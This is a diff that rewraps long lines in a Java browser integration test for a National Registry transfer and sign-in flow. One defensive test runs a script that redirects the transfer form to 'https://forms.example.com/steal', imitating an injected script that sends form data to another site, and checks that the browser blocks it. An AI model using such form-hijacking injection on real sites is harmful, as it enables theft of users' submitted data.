@@ -88,7 +88,8 @@ class TransferJourneyIT extends BrowserJourney {
         assertThat(browser.path()).isEqualTo("/sign-in.xhtml");
         assertThat(browser.text(By.tagName("h1"))).isEqualTo("Sign in to the National Registry");
         assertThat(browser.find(By.linkText("Log in")).isDisplayed()).isTrue();
-        assertThat(browser.find(By.linkText("Log in")).getAttribute("href")).isEqualTo(browser.url("/login-gov/sign-in"));
+        assertThat(browser.find(By.linkText("Log in")).getAttribute("href"))
+                .isEqualTo(browser.url("/login-gov/sign-in"));
         browser.screenshot("journey-06-sign-in-from-email");
     }
 
@@ -101,7 +102,8 @@ class TransferJourneyIT extends BrowserJourney {
         // The other account has the address as its secondary email, in other letter case.
         ImportInbox.importEveryRow("journey-dup-" + number, LegacyFile.withHeader()
                 .line(examiner(number, shared, "", "MD|TX|D-" + number + "|2030-01-01"))
-                .line(examiner(other, "other." + other + "@example.com", shared.toLowerCase(), "MD|TX|D-" + other + "|2030-01-01")));
+                .line(examiner(other, "other." + other + "@example.com", shared.toLowerCase(),
+                        "MD|TX|D-" + other + "|2030-01-01")));
 
         browser.go("/transfer.xhtml");
         fillExaminer(number, "D-" + number, "TX");
@@ -111,7 +113,8 @@ class TransferJourneyIT extends BrowserJourney {
         MimeMessage notMigrated = TestMailServer.awaitMessagesTo(shared, 1, MAIL_PATIENCE).get(0);
         assertThat(Mails.subject(notMigrated)).contains("not migrated");
         String setLink = Mails.buttonLink(notMigrated);
-        assertThat(setLink).matches(java.util.regex.Pattern.quote(browser.url("/new-email.xhtml?token=")) + "[A-Za-z0-9_-]{43}");
+        assertThat(setLink).matches(java.util.regex.Pattern.quote(browser.url("/new-email.xhtml?token="))
+                + "[A-Za-z0-9_-]{43}");
         assertThat(Mails.text(notMigrated)).contains(setLink);
 
         browser.go(setLink);
@@ -147,7 +150,8 @@ class TransferJourneyIT extends BrowserJourney {
     void aFormMadeToPostElsewhereIsNotSentAndChromiumSaysWhy() {
         // What an injected script would do to a page: point its form at another site.
         browser.go("/transfer.xhtml");
-        browser.driver().executeScript("document.getElementById('transfer').action = 'https://forms.example.com/steal';");
+        browser.driver().executeScript(
+                "document.getElementById('transfer').action = 'https://forms.example.com/steal';");
 
         browser.click(SUBMIT);
 
@@ -243,7 +247,8 @@ class TransferJourneyIT extends BrowserJourney {
         HttpResponse<String> elevenDigits = client.post(client.openForm(),
                 TransferFormClient.examinerFields(number + "1", license, "NY"));
         assertThat(elevenDigits.statusCode()).isEqualTo(200);
-        assertThat(messageIn(elevenDigits.body(), "number")).isEqualTo("A National Registry number has exactly 10 digits.");
+        assertThat(messageIn(elevenDigits.body(), "number"))
+                .isEqualTo("A National Registry number has exactly 10 digits.");
 
         HttpResponse<String> forgedState = client.post(client.openForm(),
                 TransferFormClient.examinerFields(number, license, "ZZ"));
